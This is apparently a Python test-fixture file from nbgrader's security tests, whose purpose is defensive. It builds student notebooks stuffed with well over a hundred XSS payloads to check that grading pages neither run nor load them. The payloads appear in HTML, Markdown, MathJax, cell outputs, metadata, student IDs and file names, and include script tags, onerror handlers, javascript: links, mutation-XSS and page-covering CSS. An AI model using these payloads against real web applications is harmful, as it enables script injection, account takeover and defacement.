"""Markup that tries to act: what a notebook can hold to run, load or cover something in the page that shows it.

In the texts below HIT stands for JavaScript that reports the payload, URL for an address that must never be asked.
`Payloads` numbers them, so that whatever is reported can be called by its name.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

# Tried in Markdown, and in a cell's text/html output.
HTML = {
    "script": "<script>HIT</script>",
    "script, odd spelling": "<ScRiPt\n>HIT</sCrIpT >",
    "script from elsewhere": "<script src=URL></script>",
    "script as a module": "<script type=module>HIT</script>",
    "script in a script": "<scr<script></script>ipt>HIT</scr</script>ipt>",
    "script after a style": "<scr<style></style>ipt>HIT</script>",
    "script after a second bracket": "<<script>HIT//<</script>",
    "MathJax's configuration": "<script type='text/x-mathjax-config'>HIT</script>",
    "image that fails": "<img src=x onerror=HIT>",
    "image with slashes": "<img/src=x/onerror=HIT>",
    "image in quotes": "<img src='x' onerror='HIT'>",
    "image in backticks": "<img src=`x` onerror=`HIT`>",
    "image with entities": "<img src=x onerror='&#104;it(NUMBER)'>",
    "image by the old name": "<image src=x onerror=HIT>",
    "image never closed": "<img src=x onerror=HIT ",
    "image from elsewhere": "<img src=URL>",
    "image in sizes from elsewhere": "<img srcset='URL 1x'>",
    "image with no protocol": "<img src='NO_PROTOCOL'>",
    "image from a picture": "<picture><source srcset=URL><img alt=''></picture>",
    "image from a script": "<img src='javascript:HIT'>",
    "image from a file": "<img src='file:///etc/hostname?NUMBER'>",
    "image up the tree": "<img src='../../../../../NUMBER.png'>",
    "image from the root": "<img src='/NUMBER.png'>",
    "image behind backslashes": "<img src='\\\\127.0.0.1\\NUMBER.png'>",
    "svg": "<svg onload=HIT></svg>",
    "svg script": "<svg><script>HIT</script></svg>",
    "svg animation": "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "svg link": "<svg><a xlink:href='javascript:HIT'><text x=20 y=20>click</text></a></svg>",
    "svg image": "<svg><image href=URL /></svg>",
    "svg use": "<svg><use href='URL#x'></use></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "svg set": "<svg><a><set attributeName=href to='javascript:HIT'></set><text y=20>click</text></a></svg>",
    "math link": "<math href='javascript:HIT'>click</math>",
    "math, mutated": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "math, mutated through a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>",
    "noscript, mutated": "<noscript><p title='</noscript><img src=x onerror=HIT>'></noscript>",
    "svg, mutated": "<svg></p><style><a id='</style><img src=x onerror=HIT>'></svg>",
    "comment that ends early": "<!--><img src=x onerror=HIT>-->",
    "comment that ends late": "<!-- --!><img src=x onerror=HIT> -->",
    "character data": "<![CDATA[<img src=x onerror=HIT>]]>",
    "processing instruction": "<?xml ><img src=x onerror=HIT>?>",
    "template": "<template shadowrootmode=open><img src=x onerror=HIT></template>",
    "example text": "<xmp><p title='</xmp><img src=x onerror=HIT>'></xmp>",
    "text area": "<textarea><p title='</textarea><img src=x onerror=HIT>'></textarea>",
    "title": "<title><p title='</title><img src=x onerror=HIT>'></title>",
    "quotes in an attribute": "<a title='\"><img src=x onerror=HIT>'>x</a>",
    "brackets in an attribute": "<b title='</b><script>HIT</script>'>x</b>",
    "end of the page": "</pre></div></div></div></body></html><script>HIT</script>",
    "end of the panel": "</div></div></div><img src=x onerror=HIT>",
    "body": "<body onload=HIT background=URL>",
    "frame set": "<frameset onload=HIT><frame src=URL></frameset>",
    "frame from a script": "<iframe src='javascript:parent.HIT'></iframe>",
    "frame with text": "<iframe srcdoc='&lt;script>HIT&lt;/script>'></iframe>",
    "frame from elsewhere": "<iframe src=URL></iframe>",
    "frame with data": "<iframe src='data:text/html,<script>HIT</script>'></iframe>",
    "object": "<object data=URL></object>",
    "object with data": "<object data='data:text/html,<script>HIT</script>'></object>",
    "embed": "<embed src=URL>",
    "video": "<video src=URL poster=URL autoplay></video>",
    "video that fails": "<video><source onerror=HIT src=x></video>",
    "audio": "<audio src=URL preload=auto></audio>",
    "audio that fails": "<audio src=x onerror=HIT></audio>",
    "input with focus": "<input autofocus onfocus=HIT>",
    "input with a picture": "<input type=image src=URL>",
    "choice with focus": "<select autofocus onfocus=HIT><option>x</select>",
    "form": "<form action=URL><input type=submit value=send></form>",
    "form action": "<form id=f action=x></form><button form=f formaction='javascript:HIT'>click</button>",
    "button": "<button onclick=HIT>click</button>",
    "details": "<details open ontoggle=HIT><summary onclick=HIT>more</summary>x</details>",
    "marquee": "<marquee onstart=HIT>x</marquee>",
    "any tag": "<b onclick=HIT onmouseover=HIT onfocus=HIT tabindex=1>x</b>",
    "unknown tag": "<x contenteditable onblur=HIT onfocus=HIT onpointerenter=HIT>x</x>",
    "handler after a slash": "<b/onclick=HIT>x</b>",
    "handler after a newline": "<b title=x\nonclick=HIT>x</b>",
    "handler with a null": "<b on\x00click=HIT>x</b>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "meta refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "base": "<base href='URL/'>",
    "style sheet": "<link rel=stylesheet href=URL>",
    "style sheet ahead": "<link rel=preload as=image href=URL>",
    "page ahead": "<link rel=prefetch href=URL>",
    "style import": "<style>@import url(URL);</style>",
    "style background": "<style>body { background: url(URL) }</style>",
    "style that hides": "<style>* { display: none !important }</style>",
    "style attribute": "<div style='background: url(URL)'>x</div>",
    "style list": "<ul style='list-style-image: url(URL)'><li>x</ul>",
    "style image set": "<b style='background-image: image-set(\"URL\" 1x); border-image: url(URL) 1'>x</b>",
    "style colour": "<b style='background-color: url(URL); color: url(URL)'>x</b>",
    "style, escaped": "<b style='b\\61 ckground: u\\72l(URL)'>x</b>",
    "style that covers": "<div style='position:fixed;inset:0;z-index:9999;background-color:red'></div>",
    "style that moves": "<div style='margin-top:-3000px;height:9000px;background-color:red'></div>",
    "style by class": "<div class='modal-backdrop in'></div><div class='navbar-fixed-top'>x</div>",
    "table background": "<table background=URL><tr><td background=URL>x</td></tr></table>",
    "link to a script": "<a href='javascript:HIT'>click</a>",
    "link to a script, odd spelling": "<a href=' JaVa&Tab;Script:HIT'>click</a>",
    "link to a script, entity": "<a href='&#106;avascript:HIT'>click</a>",
    "link to a script, hidden colon": "<a href='javascript&colon;HIT'>click</a>",
    "link to a script, control": "<a href='\x01javascript:HIT'>click</a>",
    "link to a script after a newline": "<a href='java\nscript:HIT'>click</a>",
    "link to a script behind an address": "<a href='#' xlink:href='javascript:HIT'>click</a>",
    "link to a Basic script": "<a href='vbscript:HIT'>click</a>",
    "link to data": "<a href='data:text/html,<script>HIT</script>'>click</a>",
    "link to data in a new page": "<a target=_blank href='data:text/html,<script>HIT</script>'>click</a>",
    "link to a blob": "<a href='blob:null/NUMBER'>click</a>",
    "link that pings": "<a href='#x' ping=URL>click</a>",
    "link within the server": "<a href='/formgrader/manage_students/%22;hit(NUMBER);%22'>click</a>",
    "link to a page of ours": "<a href='../../../../formgrader/manage_students/x'>click</a>",
    "link to a file": "<a href='file:///etc/hostname?NUMBER'>click</a>",
    "link that downloads": "<a href='data:text/plain,x' download=x.desktop>click</a>",
    "link with no protocol": "<a href='NO_PROTOCOL'>click</a>",
    "link behind backslashes": "<a href='http:\\\\127.0.0.1:1\\NUMBER'>click</a>",
    "map": "<img usemap=#m src=x><map name=m><area shape=default href='javascript:HIT'></map>",
    "name of ours": "<a id=formgrader name=formgrader>x</a><a id=submission_id name=MathJax>x</a>",
    "marks of ours": "<div class=nbgrader_cell><b class='full-credit' id=test_mlp_forward>x</b></div>",
    "attributes of ours": "<b data-toggle=tooltip title='<img src=x onerror=HIT>' data-link='../x'>x</b>",
    "pop-up of ours": "<b data-toggle=modal data-target='<img src=x onerror=HIT>' data-spy=affix>x</b>",
    "popover": "<button popovertarget=p>click</button><div popover id=p onbeforetoggle=HIT>x</div>",
    "dialog": "<dialog open onclose=HIT><form method=dialog><button>click</button></form></dialog>",
    "animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=HIT>x</b>",
    "scroll": "<div onscrollend=HIT oncontentvisibilityautostatechange=HIT style='content-visibility:auto'>x</div>",
    "never-ending text": "<plaintext>",
    "attribute never closed": "<a title='",
    "comment never closed": "<!-- ",
}  # fmt: skip

# Made a tag, or an address, only by the Markdown around it; tried in Markdown, and in a cell's text/markdown output.
MARKDOWN = {
    "blank line in an attribute": '<a title="\n\n<img src=x onerror=HIT>\n\n">x</a>',
    "blank line in details": '<details open="\n\n<img src=x onerror=HIT>\n\n">x</details>',
    "code in an attribute": "<a title=\"`\"><img src=x onerror=HIT>`\">x</a>",
    "link": "[click](javascript:HIT)",
    "link in brackets": "[click](<javascript:HIT>)",
    "link, odd spelling": "[click](JAVAscript&#58;HIT)",
    "link, percent": "[click](%6aavascript:HIT)",
    "link by reference": "[click][ref]\n\n[ref]: javascript:HIT",
    "link by itself": "<javascript:HIT>",
    "link to data": "[click](data:text/html,%3Cscript%3EHIT%3C/script%3E)",
    "link within the server": "[click](/formgrader/manage_students/%22;hit(NUMBER);%22)",
    "link title": "[click](#x '\" onmouseover=HIT x=\"')",
    "link text": "[<img src=x onerror=HIT>](#x)",
    "picture from elsewhere": "![picture](URL)",
    "picture from elsewhere by reference": "![picture][far]\n\n[far]: URL",
    "picture from a script": "![picture](javascript:HIT)",
    "picture text": '![" onerror=HIT x="](x)',
    "picture title": "![picture](x '\" onerror=HIT x=\"')",
    "picture address": '![picture](x"onerror=HIT)',
    "diagram": "```mermaid\n</pre><img src=x onerror=HIT>\n```",
    "fence": "```\"><img/src=x/onerror=HIT>\n</code></pre><script>HIT</script>\n```",
    "fence in a language": "```html\n</code></pre><script>HIT</script>\n```",
    "code": "`</code><img src=x onerror=HIT>`",
    "heading": "# <img src=x onerror=HIT>",
    "heading with a name of ours": "# submission_id\n\n## test_mlp_forward\n\n## formgrader",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=HIT> | `</td><script>HIT</script>` |",
    "math": "$<img src=x onerror=HIT>$",
    "math in a block": "$$</script><img src=x onerror=HIT>$$",
    "math in an environment": "\\begin{equation}<img src=x onerror=HIT>\\end{equation}",
    "math link": "$\\href{javascript:HIT}{click}$",
    "math link to data": "$\\href{data:text/html,<script>HIT</script>}{click}$",
    "math link, odd spelling": "$\\href{java\tscript:HIT}{click}$ $\\href{&#106;avascript:HIT}{click}$",
    "math link in a macro": "$\\def\\x#1{\\href{javascript:#1}{click}}\\x{HIT}$",
    "math token": "$\\mmlToken{mi}[href='javascript:HIT' onclick='HIT']{click}$",
    "math requires": "$\\require{html}\\href{javascript:HIT}{click}$ $\\require{URL}x$ $\\require{../../x}$",
    "math character": "$\\unicode[x;background:url(URL)]{x3c}$ $\\unicode['onclick=HIT']{120}$",
    "math style": "$\\style{background:url(URL)}{x}$ $\\style{position:fixed;top:0}{\\Rule{9999px}{9999px}{0px}}$",
    "math class": "$\\class{modal-backdrop}{x}$ $\\cssId{formgrader}{x}$",
    "math text": "$\\text{<img src=x onerror=HIT>}$ $\\mbox{</script><script>HIT</script>}$",
    "math picture": "$\\includegraphics{URL}$ $\\verb|<img src=x onerror=HIT>|$",
    "math that covers": "$\\smash{\\rlap{\\Rule{1200px}{0px}{3000px}}}$ $\\raise 900px {\\Rule{9px}{900px}{0px}}$",
    "attachment": "![picture](attachment:hostile.png)",
    "attachment that is missing": "![picture](attachment:missing.png)",
}  # fmt: skip

# What a code cell does, by Python or by a magic.
CODE = {
    "javascript": "display({'application/javascript': 'HIT', 'text/plain': 'x'}, raw=True)",
    "javascript magic": "%%javascript\nHIT",
    "html magic": "%%html\n<script>HIT</script>",
    "svg magic": "%%svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'><script>HIT</script></svg>",
    "svg": "display({'image/svg+xml': '\\'><svg onload=HIT><image href=\"URL\"/>'}, raw=True)",
    "svg from elsewhere": "display({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"URL\"/>"
    "</svg>'}, raw=True)",
    "latex": "display({'text/latex': '$\\\\href{javascript:HIT}{click}$<img src=x onerror=HIT>'}, raw=True)",
    "latex magic": "%%latex\n$\\href{javascript:HIT}{click}$",
    "diagram": "display({'text/vnd.mermaid': '<img src=x onerror=HIT>'}, raw=True)",
    "widget": "display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>HIT</script>'}},"
    " raw=True)",
    "picture data": "display({'image/png': 'x\" onerror=\"HIT'}, raw=True)",
    "picture data, jpeg": "display({'image/jpeg': 'x\" onerror=\"HIT'}, raw=True)",
    "picture of another kind": "display({'image/png': 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'}, raw=True)",
    "picture by a web kind": "display({'image/svg': '<svg onload=HIT>', 'image/x\"onerror=HIT': 'x'}, raw=True)",
    "picture width": "display({'image/png': 'x'}, metadata={'image/png': {'width': '1 onerror=HIT'}}, raw=True)",
    "picture height": "display({'image/jpeg': 'x'}, metadata={'image/jpeg': {'height': '1 onerror=HIT'}}, raw=True)",
    "picture text": "display({'image/png': 'x'}, metadata={'image/png': {'alt': '\" onerror=\"HIT'}}, raw=True)",
    "picture from elsewhere": "display({'image/png': 'x'}, metadata={'filenames': {'image/png': 'URL'}}, raw=True)",
    "frame": "display({'text/html': '<script>HIT</script>'}, metadata={'text/html': {'isolated': True}}, raw=True)",
    "printed": "print('</pre><script>HIT</script><img src=x onerror=HIT>')",
    "printed in colour": "print('\\x1b[31m<img src=x onerror=HIT>\\x1b[38;2;1;2;\"><script>HIT</script>m\\x1b[0m')",
    "printed as an error": "import sys; print('</pre><script>HIT</script>', file=sys.stderr)",
    "plain text": "display({'text/plain': '</pre><script>HIT</script>'}, raw=True)",
    "raised": "raise ValueError('</pre><script>HIT</script><img src=x onerror=HIT>')",
    "raised in colour": "raise type('<img src=x onerror=HIT>', (Exception,), {})('\\x1b[1;31m<script>HIT</script>')",
    "in its own text": "# </pre></div><script>HIT</script> <img src=x onerror=HIT>\n'''</pre><script>HIT</script>'''",
    "result": "class Shown:\n    def _repr_html_(self):\n        return '<img src=x onerror=HIT>'\nShown()",
    "result by its name": "type('<script>HIT</script>', (), {'__repr__': lambda self: '</pre><script>HIT</script>'})()",
    "paged": "get_ipython().run_line_magic('pinfo2', 'display')",
    "forged number": """
        send = lambda kind, content: get_ipython().kernel.session.send(
            get_ipython().kernel.iopub_socket, kind, content, parent=get_ipython().kernel.get_parent())
        send('execute_input', {'code': 'x', 'execution_count': '<img src=x onerror=HIT>'})
        send('execute_result', {'data': {'text/plain': 'x'}, 'metadata': {}, 'execution_count': '<script>HIT</script>'})
        """,
    "forged shapes": """
        send('display_data', {'data': {'text/html': ['<script>', 'HIT</script>'], 'text/plain': {}}, 'metadata': {}})
        send('display_data', {'data': {'image/png': ['x" onerror="HIT']}, 'metadata': {'image/png': 'x'}})
        send('display_data', {'data': {'text/markdown': 7, 'text/latex': None, 'text/plain': 7}, 'metadata': []})
        send('stream', {'name': '<script>HIT</script>', 'text': '<script>HIT</script>'})
        send('stream', {'name': 'stdout', 'text': ['<script>', 7]})
        send('error', {'ename': '<b>', 'evalue': '<b>', 'traceback': '<script>HIT</script>'})
        send('error', {'ename': 1, 'evalue': 2, 'traceback': [3, {'<script>': 'HIT'}]})
        """,
}  # fmt: skip

# A student whose name is odd is graded; one whose name nbgrader would write into its pages as markup is not.
ODD_ID = "o'hit(0) &lt;b onclick=hit(0)&gt; {{7*7}} ${hit(0)}"
HOSTILE_IDS = ("<img src=x onerror=hit(0)>", '"; hit(0); "', "x\\", "a\nb")

ATTACHED = {
    "hostile.png": {'image/png" onerror="HIT': "x", "text/html": "PHNjcmlwdD4=", "image/svg+xml": 'x" onerror="HIT'}
}
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAE0lEQVR42mP8z4APMOGVpaI0ADUAAQ6s9vuFAAAAAElFTkSuQmCC"


@dataclass
class Payloads:
    """Numbered payloads; `canary` is the address, without a protocol, that nothing may ask."""

    canary: str
    names: list[str] = field(default_factory=list)

    def armed(self, text: str, name: str) -> str:
        """The text with its number in it."""
        number = str(len(self.names))
        self.names.append(name)
        words = {
            "HIT": f"hit({number})",
            "URL": f"http://{self.canary}/{number}",
            "NO_PROTOCOL": f"//{self.canary}/{number}",
            "NUMBER": number,
        }
        return re.sub("|".join(sorted(words, key=len, reverse=True)), lambda found: words[found[0]], text)

    def cells(self) -> list[NotebookNode]:
        """A cell for each payload in each of its places."""
        found = []
        for name, text in {**HTML, **MARKDOWN}.items():
            found.append(new_markdown_cell(f"{self.armed(text, f'Markdown: {name}')}\n\nafter it"))
        for cell in found:
            if "attachment:" in cell.source:
                cell.attachments = {
                    name: {self.armed(kind, f"attachment {kind}"): self.armed(data, f"attachment {kind}")}
                    for name, bundle in ATTACHED.items()
                    for kind, data in bundle.items()
                }
        for kind in ("text/html", "text/markdown"):
            texts = HTML if kind == "text/html" else MARKDOWN
            shown = [self.armed(text, f"{kind} output: {name}") for name, text in texts.items()]
            source = f"for text in {shown!a}:\n    display({{{kind!r}: text}}, raw=True)"
            found.append(new_code_cell(source))
        for name, text in CODE.items():
            lines = text.strip("\n").splitlines()
            margin = len(lines[0]) - len(lines[0].lstrip())
            found.append(new_code_cell(self.armed("\n".join(line[margin:] for line in lines), f"cell: {name}")))
        for kind in ("text/html", "text/markdown", "", "text/x-rst"):
            raw = self.armed("<script>HIT</script><img src=x onerror=HIT>", f"raw cell: {kind}")
            found.append(new_raw_cell(raw, metadata={"raw_mimetype": kind, "format": kind}))
        for cell in found:
            cell.metadata.update(self._metadata(cell.cell_type))
        return found

    def _metadata(self, place: str) -> dict[str, object]:
        act = self.armed('"><script>HIT</script>', f"metadata of a {place} cell")
        return {"tags": [act, 'x" onclick="'], "name": act, "magics_language": act, act: act}

    def notebook_metadata(self) -> dict[str, object]:
        """Metadata for the notebook: what a page might show, or look something up by."""
        act = self.armed('</title>"><script>HIT</script>', "metadata of the notebook")
        widgets = {"application/vnd.jupyter.widget-state+json": {"state": {act: act}, "version_major": 2}}
        return {"title": act, "authors": [{"name": act}], "widgets": widgets, "language_info": {
            "name": act, "pygments_lexer": act, "file_extension": act, "mimetype": act}}  # fmt: skip

    def arm(self, notebook: NotebookNode, folder: Path) -> None:
        """Add every payload to a student's notebook, and files with odd names beside it."""
        acting = self.armed("</pre><script>HIT</script><img src=x onerror=HIT>`<b>`", "message of an answer")
        for cell in notebook.cells:
            name = cell.metadata.get("nbgrader", {}).get("grade_id")
            if name == "hidden_unit":
                cell.source = f"def hidden_unit(*arguments):\n    raise ValueError({acting!r})"
            if name == "to_matrices":
                cell.source = f"def to_matrices(*arguments):\n    return {acting!r}"
            if name == "written_backprop":
                first = {key: MARKDOWN[key] for key in ("math that covers", "heading with a name of ours", "math link")}
                texts = {**first, **dict(list(HTML.items())[::8])}.items()
                cell.source = "\n\n".join(self.armed(text, f"written answer: {key}") for key, text in texts)
        notebook.cells[6:6] = self.cells()
        notebook.metadata.update(self.notebook_metadata())
        for name in ("<img src=x onerror=HIT>.png", '"><script>HIT<!--.html', "javascript:HIT", "2-mlp-backprop.html"):
            path = folder / self.armed(name, f"file name: {name}")
            path.write_text(self.armed("<script>HIT</script>", f"file: {name}"))
